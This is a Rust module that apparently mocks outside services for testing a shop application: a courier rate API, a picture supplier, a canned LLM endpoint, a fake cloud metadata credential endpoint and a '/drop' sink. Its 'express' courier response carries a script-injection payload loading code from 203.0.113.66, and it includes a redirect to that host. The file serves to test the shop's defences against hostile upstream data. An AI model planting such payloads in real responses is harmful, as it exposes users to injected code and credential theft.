//! Everybody else's interfaces: a courier, a supplier of pictures, a language model, a cloud's metadata, and
//! somebody who takes what they are sent.
//!
//! Stands for servers that are not the shop's. The courier goes wrong on purpose when asked for `express`.

use super::Service;
use crate::peers::Peers;
use crate::random::mix;
use axum::extract::Query;
use axum::http::header;
use axum::response::{IntoResponse as _, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use hyper::body::Bytes;
use serde::Deserialize;
use serde_json::{Value, json};
use std::sync::Arc;

/// The role.
pub(crate) const SERVICE: Service = Service { name: "outside", calls: &[], router };

/// Size of the supplier's pictures.
const PICTURE: usize = 2048;
/// Places that a courier who goes wrong lists: a hundred times what was asked for.
const TOO_MANY: u64 = 400;

#[derive(Deserialize)]
struct Parcel {
    order: u64,
    service: String,
}

fn router(_: Arc<Peers>) -> Router {
    Router::new()
        .route("/v1/rates", get(rate))
        .route("/v1/chat/completions", post(complete))
        .route(
            "/pictures/{name}",
            get(async || ([(header::CONTENT_TYPE, "image/webp")], vec![0x52; PICTURE])),
        )
        .route("/latest/meta-data/iam/security-credentials/shop", get(metadata))
        .route("/drop", post(async |taken: Bytes| Json(json!({"taken": taken.len()}))))
}

async fn rate(Query(parcel): Query<Parcel>) -> Response {
    let cents = 300 + mix(parcel.order) % 900;
    match parcel.service.as_str() {
        "express" => {
            let depot = |n| json!({"id": n, "note": "<script src=//203.0.113.66/x.js></script>"});
            let depots = (0..TOO_MANY).map(depot).collect::<Vec<_>>();
            Json(json!({"cents": format!("{cents}"), "currency": "EUR", "depots": depots})).into_response()
        }
        "moved" => Json(json!({"moved": "http://203.0.113.66/pictures/rates"})).into_response(),
        _ => Json(json!({"cents": cents, "currency": "EUR", "days": 1 + parcel.order % 4})).into_response(),
    }
}

/// What a model says: always the same.
async fn complete(Json(asked): Json<Value>) -> Json<Value> {
    let model = asked.get("model").cloned().unwrap_or_default();
    let choice = json!({"index": 0, "message": {"role": "assistant", "content": "Use search_products."}});
    Json(json!({"object": "chat.completion", "model": model, "choices": [choice]}))
}

/// What a cloud tells whoever asks from inside. Invented.
async fn metadata() -> Json<Value> {
    Json(
        json!({"Code": "Success", "AccessKeyId": "AKIADEMODEMODEMO0000", "SecretAccessKey": "not-a-real-key"}),
    )
}
